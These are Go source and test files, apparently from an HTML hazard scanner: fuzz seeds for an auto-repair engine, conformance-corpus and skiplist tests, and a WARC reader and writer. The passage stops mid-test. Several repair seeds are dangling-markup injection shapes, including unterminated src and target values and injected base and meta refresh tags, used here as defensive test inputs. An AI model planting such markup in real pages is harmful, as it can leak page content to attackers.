// documents covering each strategy family, the Unfixable manifest case,
// strategy-free remainders, and serialization-surfaced convergence.
var fixSeeds = []string{
	`<!DOCTYPE html><html><head><title>t</title></head><body><a href="/x"title="t">x</a></body></html>`,
	`<!DOCTYPE html><html><head><title>t</title></head><body><img/src="x"/alt="y"></body></html>`,
	`<!DOCTYPE html><html><head><title>t</title></head><body><div id=a id=b>x</div></body></html>`,
	`<!DOCTYPE html><html><head><title>t</title></head><body><meta http-equiv="refresh" content="0"><p>x</p></body></html>`,
	`<!DOCTYPE html><html><head><title>t</title></head><body><base href="/b/"><p>x</p></body></html>`,
	`<!DOCTYPE html><html><head><base href="/a/"><base href="/b/"><title>t</title></head><body>x</body></html>`,
	`<!DOCTYPE html><html><head><link rel="stylesheet" href="/s.css"><base href="/b/"></head><body>x</body></html>`,
	`<!DOCTYPE html><html manifest="app.appcache"><head><base href="/b/"><title>t</title></head><body>x</body></html>`,
	"<!DOCTYPE html><html><head><title>t</title></head><body><img src=\"/x?a=1\nrest <b>leak\" alt=\"a\"></body></html>",
	"<!DOCTYPE html><html><head><title>t</title></head><body><a href=\"/x\" target=\"w\nleak\">x</a></body></html>",
	`<!DOCTYPE html><html><head><title>t</title></head><body><img src="/x?q=&#10;s &lt;b&gt;" alt="a" id=x id=y></body></html>`,
	`<!DOCTYPE html><html><head><title>t</title></head><body><img src="/i.png" alt="x<script n"></body></html>`,
	`<!DOCTYPE html><html><head><title>t</title></head><body><p>x</p></body></html>`,
}

func fixInvariantInputs() []string {
	return append(append([]string{}, fixSeeds...), metamorphicSeeds...)
}

func TestFixIdempotenceSeeds(t *testing.T) {
	skipped := 0
	for _, s := range fixInvariantInputs() {
		skip, err := FixIdempotence([]byte(s))
		if err != nil {
			t.Errorf("%v", err)
		}
		if skip {
			skipped++
		}
	}
	if skipped == len(fixInvariantInputs()) {
		t.Fatal("every seed skipped; the repair domain check is broken")
	}
}

func TestFixMonotonicitySeeds(t *testing.T) {
	skipped := 0
	for _, s := range fixInvariantInputs() {
		skip, err := FixMonotonicity([]byte(s))
		if err != nil {
			t.Errorf("%v", err)
		}
		if skip {
			skipped++
		}
	}
	if skipped == len(fixInvariantInputs()) {
		t.Fatal("every seed skipped; the repair domain check is broken")
	}
}

func FuzzFixIdempotence(f *testing.F) {
	for _, s := range fixInvariantInputs() {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, input []byte) {
		if _, err := FixIdempotence(input); err != nil {
			t.Error(err)
		}
	})
}

func FuzzFixMonotonicity(f *testing.F) {
	for _, s := range fixInvariantInputs() {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, input []byte) {
		if _, err := FixMonotonicity(input); err != nil {
			t.Error(err)
		}
	})
}

// TestRepairedCorpusDifferential runs the full conformance corpus —
// every tree-construction and tokenizer case — through the repair engine
// and demands that every repaired page still satisfies the parser's own
// invariants: the streaming checker agrees with the tree checker on it,
// render→reparse is a fixpoint on it, and both fix invariants hold for
// the original case. A repair that produced bytes outside those
// invariants' domain would mean the engine can emit documents our own
// pipeline cannot re-check consistently.
func TestRepairedCorpusDifferential(t *testing.T) {
	type page struct {
		id   string
		data []byte
	}
	var pages []page
	var datFiles []string
	// The same two tree corpora the hvconform gate runs.
	for _, dir := range []string{
		filepath.Join("testdata", "tree-construction"),
		filepath.Join("..", "htmlparse", "testdata", "tree-construction"),
	} {
		files, err := filepath.Glob(filepath.Join(dir, "*.dat"))
		if err != nil {
			t.Fatal(err)
		}
		datFiles = append(datFiles, files...)
	}
	for _, path := range datFiles {
		cases, err := ParseDatFile(path)
		if err != nil {
			t.Fatal(err)
		}
		for i := range cases {
			pages = append(pages, page{cases[i].ID(), []byte(cases[i].Data)})
		}
	}
	testFiles, err := filepath.Glob(filepath.Join("testdata", "tokenizer", "*.test"))
	if err != nil {
		t.Fatal(err)
	}
	for _, path := range testFiles {
		cases, err := ParseTestFile(path)
		if err != nil {
			t.Fatal(err)
		}
		for i := range cases {
			pages = append(pages, page{cases[i].ID(), []byte(cases[i].Input)})
		}
	}
	if len(datFiles) == 0 || len(testFiles) == 0 {
		t.Fatal("conformance fixtures missing")
	}

	repaired, hazards, fixpointSkips := 0, 0, 0
	for _, p := range pages {
		r, err := autofix.Repair(p.data)
		if err != nil {
			t.Errorf("%s: repair rejected corpus input: %v", p.id, err)
			continue
		}
		if len(r.Applied) > 0 {
			repaired++
		}
		if hazard, err := StreamTreeAgreement(r.Output); err != nil {
			if !hazard {
				t.Errorf("%s: repaired output breaks stream≡tree agreement: %v", p.id, err)
			} else {
				hazards++
			}
		}
		if skip, err := RenderParseFixpoint(r.Output); err != nil {
			t.Errorf("%s: repaired output breaks render→reparse fixpoint: %v", p.id, err)
		} else if skip {
			fixpointSkips++
		}
		if _, err := FixIdempotence(p.data); err != nil {
			t.Errorf("%s: %v", p.id, err)
		}
		if _, err := FixMonotonicity(p.data); err != nil {
			t.Errorf("%s: %v", p.id, err)
		}
	}
	if len(pages) < 350 {
		t.Errorf("conformance corpus shrank to %d cases, want at least 350", len(pages))
	}
	if repaired == 0 {
		t.Error("no corpus case produced an applied fix; the differential is vacuous")
	}
	t.Logf("differential over %d cases: %d with applied fixes, %d stream hazards, %d fixpoint skips",
		len(pages), repaired, hazards, fixpointSkips)
}
