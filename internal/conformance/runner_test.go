package conformance

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hvscan/hvscan/internal/htmlparse"
)

func writeCorpusFile(t *testing.T, dir, name, content string) string {
	t.Helper()
	path := filepath.Join(dir, name)
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

const passingDat = `#data
<!DOCTYPE html><p>x</p>
#errors
#document
| <!DOCTYPE html>
| <html>
|   <head>
|   <body>
|     <p>
|       "x"
`

func TestRunnerTreeOutcomes(t *testing.T) {
	dir := t.TempDir()
	// One passing case, one with a wrong golden tree, one with wrong
	// errors, one skiplisted.
	writeCorpusFile(t, dir, "a.dat", passingDat+`
#data
<!DOCTYPE html><p>y</p>
#errors
#document
| <!DOCTYPE html>
| <html>
|   <head>
|   <body>
|     <div>
|       "y"

#data
<p>z</p>
#errors
#document
| <html>
|   <head>
|   <body>
|     <p>
|       "z"

#data
<!DOCTYPE html><table><div>x</div></table>
#errors
#document
`)
	// The fourth case's #data marker sits at line 33 of a.dat.
	skips, err := ParseSkiplist(writeSkiplist(t, "a.dat:33 -- exercising the skip path\n"))
	if err != nil {
		t.Fatal(err)
	}
	r := NewRunner(skips)
	if _, err := r.RunTreeDir(dir); err != nil {
		t.Fatal(err)
	}
	rep := r.Report()
	if rep.Total() != 4 || rep.Count(Pass) != 1 || rep.Count(Fail) != 2 || rep.Count(Skip) != 1 {
		t.Fatalf("outcomes: total=%d pass=%d fail=%d skip=%d",
			rep.Total(), rep.Count(Pass), rep.Count(Fail), rep.Count(Skip))
	}
	fails := rep.Failures()
	if !strings.Contains(fails[0].Detail, "tree diverges") {
		t.Errorf("first failure should be a tree diff:\n%s", fails[0].Detail)
	}
	if !strings.Contains(fails[1].Detail, "error codes diverge") {
		t.Errorf("second failure should be an error diff:\n%s", fails[1].Detail)
	}
	if len(rep.StaleSkips) != 0 {
		t.Errorf("stale skips: %v", rep.StaleSkips)
	}
}

func TestRunnerTreeUpdateRewritesGoldens(t *testing.T) {
	dir := t.TempDir()
	path := writeCorpusFile(t, dir, "a.dat", `#data
<p>z</p>
#errors
#document
`)
	r := NewRunner(nil)
	r.Update = true
	updated, err := r.RunTreeDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	content, ok := updated[path]
	if !ok {
		t.Fatal("update did not rewrite the file")
	}
	if !strings.Contains(content, "unexpected-token-in-initial-insertion-mode") {
		t.Errorf("errors not filled in:\n%s", content)
	}
	if !strings.Contains(content, `|       "z"`) {
		t.Errorf("document not filled in:\n%s", content)
	}
	// The rewritten goldens must pass a plain run.
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	r2 := NewRunner(nil)
	if _, err := r2.RunTreeDir(dir); err != nil {
		t.Fatal(err)
	}
	if rep := r2.Report(); rep.Count(Pass) != rep.Total() {
		t.Errorf("regenerated goldens do not pass: %+v", rep.Results)
	}
}

func TestRunnerTokenOutcomes(t *testing.T) {
	dir := t.TempDir()
	writeCorpusFile(t, dir, "a.test", `{"tests": [
		{"description": "pass", "input": "<p>", "output": [["StartTag", "p", {}]]},
		{"description": "fail tokens", "input": "<p>", "output": [["StartTag", "q", {}]]},
		{"description": "fail errors", "input": "<p>", "output": [["StartTag", "p", {}]],
		 "errors": [{"code": "eof-in-tag"}]},
		{"description": "skipped", "input": "x", "output": []}
	]}`)
	skips, err := ParseSkiplist(writeSkiplist(t, "a.test:skipped -- exercising the skip path\n"))
	if err != nil {
		t.Fatal(err)
	}
	r := NewRunner(skips)
	if _, err := r.RunTokenDir(dir); err != nil {
		t.Fatal(err)
	}
	rep := r.Report()
	if rep.Total() != 4 || rep.Count(Pass) != 1 || rep.Count(Fail) != 2 || rep.Count(Skip) != 1 {
		t.Fatalf("outcomes: total=%d pass=%d fail=%d skip=%d",
			rep.Total(), rep.Count(Pass), rep.Count(Fail), rep.Count(Skip))
	}
}

func TestRunnerCoverageRecording(t *testing.T) {
	dir := t.TempDir()
	writeCorpusFile(t, dir, "a.dat", `#data
<!DOCTYPE html><body><p id="a" id="a">x</p></body>
#errors
duplicate-attribute
#document
| <!DOCTYPE html>
| <html>
|   <head>
|   <body>
|     <p>
|       id="a"
|       "x"
`)
	r := NewRunner(nil)
	if _, err := r.RunTreeDir(dir); err != nil {
		t.Fatal(err)
	}
	rep := r.Report()
	if rep.Count(Pass) != 1 {
		t.Fatalf("case failed: %+v", rep.Results)
	}
	lines, _ := rep.Coverage.Report()
	for _, l := range lines {
		if l.Code == htmlparse.ErrDuplicateAttribute && l.Hits == 0 {
			t.Error("duplicate-attribute not counted")
		}
	}
}

func TestCoverageGate(t *testing.T) {
	c := NewCoverage()
	_, missing := c.Report()
	if len(missing) == 0 {
		t.Fatal("empty coverage should miss every emitted code")
	}
	c.RecordNames([]string{"duplicate-attribute"})
	_, missing2 := c.Report()
	if len(missing2) != len(missing)-1 {
		t.Errorf("recording one code should shrink missing by one: %d -> %d", len(missing), len(missing2))
	}
	md := c.Markdown()
	if !strings.Contains(md, "justified-unreachable") {
		t.Error("markdown lacks the unreachable row")
	}
	if !strings.Contains(md, "**MISSING**") {
		t.Error("markdown lacks MISSING markers")
	}
}

// TestCheckedInCorpus runs the real checked-in corpus exactly as `make
// conform` does — the conformance suite as a plain go test, so tier-1
// CI cannot pass with a red corpus.
func TestCheckedInCorpus(t *testing.T) {
	skips, err := ParseSkiplist("testdata/skiplist.txt")
	if err != nil {
		t.Fatal(err)
	}
	r := NewRunner(skips)
	for _, dir := range []string{"testdata/tree-construction", "../htmlparse/testdata/tree-construction"} {
		if _, err := r.RunTreeDir(dir); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := r.RunTokenDir("testdata/tokenizer"); err != nil {
		t.Fatal(err)
	}
	rep := r.Report()
	for _, c := range rep.Failures() {
		t.Errorf("FAIL %s\n%s", c.ID, c.Detail)
	}
	if rep.Total() < 300 {
		t.Errorf("corpus shrank to %d cases, want >= 300", rep.Total())
	}
	if _, missing := rep.Coverage.Report(); len(missing) > 0 {
		t.Errorf("emitted codes with no provoking fixture: %v", missing)
	}
	if len(rep.StaleSkips) > 0 {
		t.Errorf("stale skiplist entries: %v", rep.StaleSkips)
	}
}
