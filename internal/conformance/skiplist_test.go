package conformance

import (
	"os"
	"path/filepath"
	"testing"
)

func writeSkiplist(t *testing.T, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "skiplist.txt")
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestParseSkiplist(t *testing.T) {
	s, err := ParseSkiplist(writeSkiplist(t, `
# a comment
tree.dat:17 -- parser merges whitespace here, tracked upstream
tok.test:bad amp -- legacy charref divergence
tok.test:bad amp@PLAINTEXT state -- state-specific skip
`))
	if err != nil {
		t.Fatal(err)
	}
	if r, ok := s.Lookup("tree.dat:17"); !ok || r != "parser merges whitespace here, tracked upstream" {
		t.Errorf("Lookup(tree.dat:17) = %q, %v", r, ok)
	}
	// Most specific ID wins when both are listed.
	if r, _ := s.Lookup("tok.test:bad amp@PLAINTEXT state", "tok.test:bad amp"); r != "state-specific skip" {
		t.Errorf("specific lookup = %q", r)
	}
	// Fallback to the base ID for unlisted states.
	if _, ok := s.Lookup("tok.test:bad amp@RCDATA state", "tok.test:bad amp"); !ok {
		t.Error("base-ID fallback failed")
	}
	if _, ok := s.Lookup("other.dat:1"); ok {
		t.Error("unlisted case matched")
	}
	if st := s.Stale(); len(st) != 0 {
		t.Errorf("all entries were used, stale = %v", st)
	}
}

func TestParseSkiplistMandatoryReason(t *testing.T) {
	for _, bad := range []string{
		"tree.dat:17\n",
		"tree.dat:17 --\n",
		"tree.dat:17 -- \n",
		" -- reason without id\n",
	} {
		if _, err := ParseSkiplist(writeSkiplist(t, bad)); err == nil {
			t.Errorf("accepted malformed entry %q", bad)
		}
	}
}

func TestParseSkiplistDuplicate(t *testing.T) {
	content := "a.dat:1 -- first\na.dat:1 -- second\n"
	if _, err := ParseSkiplist(writeSkiplist(t, content)); err == nil {
		t.Error("duplicate entry accepted")
	}
}

func TestSkiplistStale(t *testing.T) {
	s, err := ParseSkiplist(writeSkiplist(t, "used.dat:1 -- x\nunused.dat:9 -- y\n"))
	if err != nil {
		t.Fatal(err)
	}
	s.Lookup("used.dat:1")
	st := s.Stale()
	if len(st) != 1 || st[0] != "unused.dat:9" {
		t.Errorf("stale = %v", st)
	}
}

func TestParseSkiplistMissingFileIsEmpty(t *testing.T) {
	s, err := ParseSkiplist(filepath.Join(t.TempDir(), "nope.txt"))
	if err != nil {
		t.Fatal(err)
	}
	if _, ok := s.Lookup("x"); ok {
		t.Error("empty skiplist matched")
	}
}
