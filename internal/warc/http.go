package warc

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"strconv"
	"strings"
)

// HTTP message helpers for request and response record blocks. A WARC
// response block holds the verbatim HTTP/1.1 response the crawler
// received (and a request block the request that elicited it); the
// pipeline needs to build such blocks (corpus generation) and split them
// back into headers and body (page extraction).

// HTTPResponse is a decoded HTTP response block.
type HTTPResponse struct {
	StatusCode int
	Status     string
	Headers    Headers
	Body       []byte
}

// BuildHTTPResponse serializes a minimal HTTP/1.1 response block with the
// given content type and body.
func BuildHTTPResponse(status int, contentType string, body []byte) []byte {
	var b bytes.Buffer
	fmt.Fprintf(&b, "HTTP/1.1 %d %s\r\n", status, statusText(status))
	fmt.Fprintf(&b, "Content-Type: %s\r\n", contentType)
	fmt.Fprintf(&b, "Content-Length: %d\r\n", len(body))
	b.WriteString("Connection: close\r\n\r\n")
	b.Write(body)
	return b.Bytes()
}

// BuildHTTPRequest serializes the HTTP/1.1 GET request block paired with
// a response capture, as Common Crawl stores alongside each response.
func BuildHTTPRequest(rawURL string) []byte {
	host, path := splitURL(rawURL)
	var b bytes.Buffer
	fmt.Fprintf(&b, "GET %s HTTP/1.1\r\n", path)
	fmt.Fprintf(&b, "Host: %s\r\n", host)
	b.WriteString("User-Agent: hvscan-crawler/1.0 (synthetic archive)\r\n")
	b.WriteString("Accept: text/html\r\nConnection: close\r\n\r\n")
	return b.Bytes()
}

func splitURL(rawURL string) (host, path string) {
	u := rawURL
	if i := strings.Index(u, "://"); i >= 0 {
		u = u[i+3:]
	}
	if i := strings.IndexByte(u, '/'); i >= 0 {
		return u[:i], u[i:]
	}
	return u, "/"
}

// ParseHTTPResponse splits a response block into status, headers, body.
func ParseHTTPResponse(block []byte) (*HTTPResponse, error) {
	br := bufio.NewReader(bytes.NewReader(block))
	statusLine, err := readLine(br)
	if err != nil {
		return nil, fmt.Errorf("%w: http status line: %v", ErrMalformed, err)
	}
	parts := strings.SplitN(statusLine, " ", 3)
	if len(parts) < 2 || !strings.HasPrefix(parts[0], "HTTP/") {
		return nil, fmt.Errorf("%w: http status line %q", ErrMalformed, statusLine)
	}
	code, err := strconv.Atoi(parts[1])
	if err != nil {
		return nil, fmt.Errorf("%w: http status code %q", ErrMalformed, parts[1])
	}
	resp := &HTTPResponse{StatusCode: code}
	if len(parts) == 3 {
		resp.Status = parts[2]
	}
	for {
		line, err := readLine(br)
		if err != nil {
			if err == io.EOF {
				break
			}
			return nil, err
		}
		if line == "" {
			break
		}
		name, value, ok := strings.Cut(line, ":")
		if !ok {
			continue // tolerate junk header lines, like a crawler must
		}
		resp.Headers.Set(strings.TrimSpace(name), strings.TrimSpace(value))
	}
	body, err := io.ReadAll(br)
	if err != nil {
		return nil, err
	}
	resp.Body = body
	return resp, nil
}

func statusText(code int) string {
	switch code {
	case 200:
		return "OK"
	case 301:
		return "Moved Permanently"
	case 302:
		return "Found"
	case 304:
		return "Not Modified"
	case 404:
		return "Not Found"
	case 500:
		return "Internal Server Error"
	case 503:
		return "Service Unavailable"
	}
	return "Unknown"
}
