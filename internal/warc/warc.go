// Package warc reads and writes WARC/1.0 archives (ISO 28500), the format
// Common Crawl publishes its monthly snapshots in. The implementation
// covers what the measurement pipeline needs: response/request/warcinfo
// records, per-record gzip members (Common Crawl's layout, which makes
// single records addressable by byte offset), and offset-addressed access.
package warc

import (
	"bufio"
	"bytes"
	"compress/gzip"
	"errors"
	"fmt"
	"io"
	"sort"
	"strconv"
	"strings"
	"time"
)

// Record types from the WARC specification.
const (
	TypeWarcinfo = "warcinfo"
	TypeResponse = "response"
	TypeRequest  = "request"
	TypeMetadata = "metadata"
	TypeResource = "resource"
)

// Standard header names.
const (
	HeaderType          = "WARC-Type"
	HeaderRecordID      = "WARC-Record-ID"
	HeaderDate          = "WARC-Date"
	HeaderTargetURI     = "WARC-Target-URI"
	HeaderContentType   = "Content-Type"
	HeaderContentLength = "Content-Length"
	HeaderPayloadType   = "WARC-Identified-Payload-Type"
	HeaderIPAddress     = "WARC-IP-Address"
	HeaderFilename      = "WARC-Filename"
	HeaderConcurrentTo  = "WARC-Concurrent-To"
)

const version = "WARC/1.0"

// ErrMalformed reports a syntactically invalid record.
var ErrMalformed = errors.New("warc: malformed record")

// Record is one WARC record: a header block plus an opaque content block.
type Record struct {
	Headers Headers
	Block   []byte
}

// Headers is a case-insensitive WARC named-field collection that preserves
// a canonical write order.
type Headers struct {
	kv []headerField
}

type headerField struct{ name, value string }

// Set adds or replaces a header (case-insensitive on the name).
func (h *Headers) Set(name, value string) {
	for i := range h.kv {
		if strings.EqualFold(h.kv[i].name, name) {
			h.kv[i].value = value
			return
		}
	}
	h.kv = append(h.kv, headerField{name, value})
}

// Get returns the value of the named header ("" if absent).
func (h *Headers) Get(name string) string {
	for i := range h.kv {
		if strings.EqualFold(h.kv[i].name, name) {
			return h.kv[i].value
		}
	}
	return ""
}

// Names returns all header names in insertion order.
func (h *Headers) Names() []string {
	out := make([]string, len(h.kv))
	for i := range h.kv {
		out[i] = h.kv[i].name
	}
	return out
}

// Len reports the number of named fields.
func (h *Headers) Len() int { return len(h.kv) }

// Type is shorthand for the WARC-Type header.
func (r *Record) Type() string { return r.Headers.Get(HeaderType) }

// TargetURI is shorthand for the WARC-Target-URI header.
func (r *Record) TargetURI() string { return r.Headers.Get(HeaderTargetURI) }

// Date parses the WARC-Date header.
func (r *Record) Date() (time.Time, error) {
	return time.Parse(time.RFC3339, r.Headers.Get(HeaderDate))
}

// NewResponse builds a response record wrapping an HTTP response block.
func NewResponse(uri string, date time.Time, httpBlock []byte) *Record {
	r := &Record{Block: httpBlock}
	r.Headers.Set(HeaderType, TypeResponse)
	r.Headers.Set(HeaderRecordID, newRecordID(uri, date, len(httpBlock)))
	r.Headers.Set(HeaderDate, date.UTC().Format(time.RFC3339))
	r.Headers.Set(HeaderTargetURI, uri)
	r.Headers.Set(HeaderContentType, "application/http; msgtype=response")
	r.Headers.Set(HeaderContentLength, strconv.Itoa(len(httpBlock)))
	return r
}

// NewRequest builds a request record paired with a response record (the
// WARC-Concurrent-To linkage Common Crawl uses).
func NewRequest(uri string, date time.Time, httpBlock []byte, responseID string) *Record {
	r := &Record{Block: httpBlock}
	r.Headers.Set(HeaderType, TypeRequest)
	r.Headers.Set(HeaderRecordID, newRecordID("req:"+uri, date, len(httpBlock)))
	r.Headers.Set(HeaderDate, date.UTC().Format(time.RFC3339))
	r.Headers.Set(HeaderTargetURI, uri)
	if responseID != "" {
		r.Headers.Set(HeaderConcurrentTo, responseID)
	}
	r.Headers.Set(HeaderContentType, "application/http; msgtype=request")
	r.Headers.Set(HeaderContentLength, strconv.Itoa(len(httpBlock)))
	return r
}

// NewWarcinfo builds the warcinfo record that leads a WARC file.
func NewWarcinfo(filename string, date time.Time, fields map[string]string) *Record {
	var b bytes.Buffer
	keys := make([]string, 0, len(fields))
	for k := range fields {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		fmt.Fprintf(&b, "%s: %s\r\n", k, fields[k])
	}
	r := &Record{Block: b.Bytes()}
	r.Headers.Set(HeaderType, TypeWarcinfo)
	r.Headers.Set(HeaderRecordID, newRecordID(filename, date, b.Len()))
	r.Headers.Set(HeaderDate, date.UTC().Format(time.RFC3339))
	r.Headers.Set(HeaderFilename, filename)
	r.Headers.Set(HeaderContentType, "application/warc-fields")
	r.Headers.Set(HeaderContentLength, strconv.Itoa(b.Len()))
	return r
}

// newRecordID derives a deterministic urn:uuid-style record ID. Archives
// must be reproducible across runs, so no global randomness is used.
func newRecordID(seedA string, date time.Time, seedB int) string {
	h := fnv64(seedA) ^ uint64(date.UnixNano()) ^ fnv64(strconv.Itoa(seedB))
	h2 := fnv64(seedA + "#2")
	return fmt.Sprintf("<urn:uuid:%08x-%04x-%04x-%04x-%012x>",
		uint32(h), uint16(h>>32), 0x4000|uint16(h>>48)&0x0fff,
		0x8000|uint16(h2)&0x3fff, h2>>16&0xffffffffffff)
}

func fnv64(s string) uint64 {
	const offset, prime = 14695981039346656037, 1099511628211
	h := uint64(offset)
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= prime
	}
	return h
}

// writeTo serializes the record (uncompressed) to w.
func (r *Record) writeTo(w io.Writer) error {
	var b bytes.Buffer
	b.WriteString(version)
	b.WriteString("\r\n")
	for _, f := range r.Headers.kv {
		b.WriteString(f.name)
		b.WriteString(": ")
		b.WriteString(f.value)
		b.WriteString("\r\n")
	}
	b.WriteString("\r\n")
	b.Write(r.Block)
	b.WriteString("\r\n\r\n")
	_, err := w.Write(b.Bytes())
	return err
}

// Writer writes records to an underlying stream. When Compressed, each
// record becomes its own gzip member — the Common Crawl layout that lets
// the CDX index address records by (offset, length).
type Writer struct {
	w          countingWriter
	Compressed bool
}

type countingWriter struct {
	w io.Writer
	n int64
}

func (c *countingWriter) Write(p []byte) (int, error) {
	n, err := c.w.Write(p)
	c.n += int64(n)
	return n, err
}

// NewWriter returns a Writer emitting per-record gzip members.
func NewWriter(w io.Writer) *Writer {
	return &Writer{w: countingWriter{w: w}, Compressed: true}
}

// NewPlainWriter returns a Writer emitting uncompressed records.
func NewPlainWriter(w io.Writer) *Writer {
	return &Writer{w: countingWriter{w: w}}
}

// Offset reports the byte offset the next record will start at.
func (w *Writer) Offset() int64 { return w.w.n }

// Write appends one record and returns its (offset, length) within the
// stream — the coordinates a CDX index stores.
func (w *Writer) Write(r *Record) (offset, length int64, err error) {
	offset = w.w.n
	if !w.Compressed {
		if err := r.writeTo(&w.w); err != nil {
			return 0, 0, err
		}
		return offset, w.w.n - offset, nil
	}
	gz := gzip.NewWriter(&w.w)
	if err := r.writeTo(gz); err != nil {
		return 0, 0, err
	}
	if err := gz.Close(); err != nil {
		return 0, 0, err
	}
	return offset, w.w.n - offset, nil
}

// Reader reads records sequentially from a WARC stream, transparently
// handling per-record gzip members.
type Reader struct {
	br *bufio.Reader
}

// NewReader returns a Reader over r.
func NewReader(r io.Reader) *Reader {
	return &Reader{br: bufio.NewReaderSize(r, 64<<10)}
}

// Next returns the next record, or io.EOF at the end of the stream.
func (r *Reader) Next() (*Record, error) {
	peek, err := r.br.Peek(2)
	if err != nil {
		if err == io.EOF {
			return nil, io.EOF
		}
		return nil, err
	}
	if peek[0] == 0x1f && peek[1] == 0x8b {
		gz, err := gzip.NewReader(r.br)
		if err != nil {
			return nil, err
		}
		gz.Multistream(false)
		rec, err := readRecord(bufio.NewReader(gz))
		if err != nil {
			return nil, err
		}
		// Drain the member so the next Peek lands on the next gzip header.
		if _, err := io.Copy(io.Discard, gz); err != nil {
			return nil, err
		}
		if err := gz.Close(); err != nil {
			return nil, err
		}
		return rec, nil
	}
	return readRecord(r.br)
}

// ReadAll drains the stream into a slice of records.
func (r *Reader) ReadAll() ([]*Record, error) {
	var out []*Record
	for {
		rec, err := r.Next()
		if err == io.EOF {
			return out, nil
		}
		if err != nil {
			return out, err
		}
		out = append(out, rec)
	}
}

// ReadRecordAt decodes the single record stored at data[offset:offset+length]
// — how a Common Crawl client materializes one page from an S3 range read.
func ReadRecordAt(data []byte, offset, length int64) (*Record, error) {
	if offset < 0 || length <= 0 || offset+length > int64(len(data)) {
		return nil, fmt.Errorf("%w: range [%d,%d) outside %d bytes", ErrMalformed, offset, offset+length, len(data))
	}
	return NewReader(bytes.NewReader(data[offset : offset+length])).Next()
}

func readRecord(br *bufio.Reader) (*Record, error) {
	line, err := readLine(br)
	if err != nil {
		return nil, err
	}
	// Tolerate leading blank lines between records.
	for line == "" {
		line, err = readLine(br)
		if err != nil {
			return nil, err
		}
	}
	if !strings.HasPrefix(line, "WARC/") {
		return nil, fmt.Errorf("%w: bad version line %q", ErrMalformed, line)
	}
	rec := &Record{}
	for {
		line, err = readLine(br)
		if err != nil {
			return nil, fmt.Errorf("%w: header: %v", ErrMalformed, err)
		}
		if line == "" {
			break
		}
		name, value, ok := strings.Cut(line, ":")
		if !ok {
			return nil, fmt.Errorf("%w: header line %q", ErrMalformed, line)
		}
		rec.Headers.Set(strings.TrimSpace(name), strings.TrimSpace(value))
	}
	n, err := strconv.ParseInt(rec.Headers.Get(HeaderContentLength), 10, 64)
	if err != nil || n < 0 {
		return nil, fmt.Errorf("%w: content-length %q", ErrMalformed, rec.Headers.Get(HeaderContentLength))
	}
	rec.Block = make([]byte, n)
	if _, err := io.ReadFull(br, rec.Block); err != nil {
		return nil, fmt.Errorf("%w: block: %v", ErrMalformed, err)
	}
	// Trailing CRLF CRLF (tolerated if absent at EOF).
	for i := 0; i < 4; i++ {
		b, err := br.ReadByte()
		if err != nil {
			break
		}
		if b != '\r' && b != '\n' {
			_ = br.UnreadByte()
			break
		}
	}
	return rec, nil
}

func readLine(br *bufio.Reader) (string, error) {
	line, err := br.ReadString('\n')
	if err != nil && line == "" {
		return "", err
	}
	return strings.TrimRight(line, "\r\n"), nil
}
