package warc

import (
	"bytes"
	"io"
	"strings"
	"testing"
	"testing/quick"
	"time"
)

var testDate = time.Date(2022, 1, 30, 12, 0, 0, 0, time.UTC)

func TestRecordRoundTripPlain(t *testing.T) {
	roundTrip(t, NewPlainWriter)
}

func TestRecordRoundTripCompressed(t *testing.T) {
	roundTrip(t, NewWriter)
}

func roundTrip(t *testing.T, newWriter func(io.Writer) *Writer) {
	t.Helper()
	var buf bytes.Buffer
	w := newWriter(&buf)

	bodies := []string{"<html>one</html>", "<html>two</html>", strings.Repeat("x", 100_000)}
	type loc struct{ off, length int64 }
	var locs []loc
	for i, body := range bodies {
		block := BuildHTTPResponse(200, "text/html; charset=utf-8", []byte(body))
		rec := NewResponse("https://example.org/p/"+string(rune('a'+i)), testDate, block)
		off, length, err := w.Write(rec)
		if err != nil {
			t.Fatal(err)
		}
		if length <= 0 {
			t.Fatalf("record %d: length = %d", i, length)
		}
		locs = append(locs, loc{off, length})
	}

	// Sequential read.
	recs, err := NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != len(bodies) {
		t.Fatalf("read %d records, want %d", len(recs), len(bodies))
	}
	for i, rec := range recs {
		if rec.Type() != TypeResponse {
			t.Fatalf("record %d type = %q", i, rec.Type())
		}
		resp, err := ParseHTTPResponse(rec.Block)
		if err != nil {
			t.Fatal(err)
		}
		if string(resp.Body) != bodies[i] {
			t.Fatalf("record %d body mismatch (%d vs %d bytes)", i, len(resp.Body), len(bodies[i]))
		}
		if d, err := rec.Date(); err != nil || !d.Equal(testDate) {
			t.Fatalf("record %d date = %v, %v", i, d, err)
		}
	}

	// Random access via (offset, length) — the CDX access path.
	for i := len(locs) - 1; i >= 0; i-- {
		rec, err := ReadRecordAt(buf.Bytes(), locs[i].off, locs[i].length)
		if err != nil {
			t.Fatalf("ReadRecordAt(%d): %v", i, err)
		}
		resp, _ := ParseHTTPResponse(rec.Block)
		if string(resp.Body) != bodies[i] {
			t.Fatalf("random access %d: wrong body", i)
		}
	}
}

func TestWarcinfoLeads(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	info := NewWarcinfo("seg-0001.warc.gz", testDate, map[string]string{"software": "test"})
	if _, _, err := w.Write(info); err != nil {
		t.Fatal(err)
	}
	recs, err := NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 1 || recs[0].Type() != TypeWarcinfo {
		t.Fatalf("recs = %v", recs)
	}
	if !strings.Contains(string(recs[0].Block), "software: test") {
		t.Fatalf("block = %q", recs[0].Block)
	}
}

func TestHeadersCaseInsensitive(t *testing.T) {
	var h Headers
	h.Set("WARC-Type", "response")
	h.Set("warc-type", "request") // replaces, case-insensitively
	if got := h.Get("WARC-TYPE"); got != "request" {
